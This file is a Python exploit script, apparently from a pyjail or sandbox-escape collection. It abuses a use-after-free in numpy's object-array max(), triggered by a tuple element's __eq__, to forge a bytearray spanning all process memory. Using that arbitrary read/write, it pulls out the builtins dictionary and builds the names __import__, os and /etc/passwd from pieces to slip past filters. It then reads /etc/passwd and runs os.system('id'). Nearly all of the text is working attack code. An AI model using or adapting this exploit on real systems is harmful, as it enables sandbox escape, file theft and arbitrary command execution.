# source: CPython tuple_richcompare calls elements' __eq__ while numpy's object max() holds a borrowed pointer (cf. numpy issues on object-array comparisons mutating the array; classic CPython UAF->fake bytearray technique from pyjail write-ups)
# family: UAF in numpy object reduction (a.max) via tuple element __eq__ that frees the compared tuple -> fake bytearray over all memory
# goal: builtins dict of a function (func_builtins), __import__ os, open /etc/passwd, os.system("id")
import numpy as np

M64 = (1 << 64) - 1


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


BA_TYPE = addr_of(bytearray)
payload = bytearray(239)
fake = (1 << 40).to_bytes(8, "little") + BA_TYPE.to_bytes(8, "little")
fake += ((1 << 63) - 1).to_bytes(8, "little") + ((1 << 63) - 1).to_bytes(8, "little")
fake += bytes(8) + bytes(8) + bytes(8)
payload[16:16 + len(fake)] = fake
payload = bytes(payload)

arr = np.empty(2, dtype=object)
keep = [None, None, None, None]
state = {"armed": False}


class E(float):
    def __eq__(self, other):
        if state["armed"]:
            state["armed"] = False
            arr[1] = None
            keep[0] = bytearray(payload)
        return True

    def __hash__(self):
        return 1


class Holder:
    __slots__ = ("v",)


def probe():
    return 0


e = E(0.0)
arr[0] = (e,)
arr[1] = tuple([0.0] * 25)
state["armed"] = True
mem = arr.max()


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


def wr(a, v):
    mem[a:a + 8] = v.to_bytes(8, "little")


fn = addr_of(probe)
bdict = rd(fn + 24)
h = Holder()
h.v = None
ha = addr_of(h)
wr(bdict, rd(bdict) + 1)
wr(ha + 16, bdict)
b = h.v
print("builtins dict:", type(b), len(b))
u = chr(95) * 2
imp = b[u + "import" + u]
m = imp("o" + "s")
print("module:", m)
opener = b["".join(["o", "pen"])]
p = chr(47) + "etc" + chr(47) + "passwd"
print(opener(p).read()[:200])
b["vars"](m)["sys" + "tem"]("id")
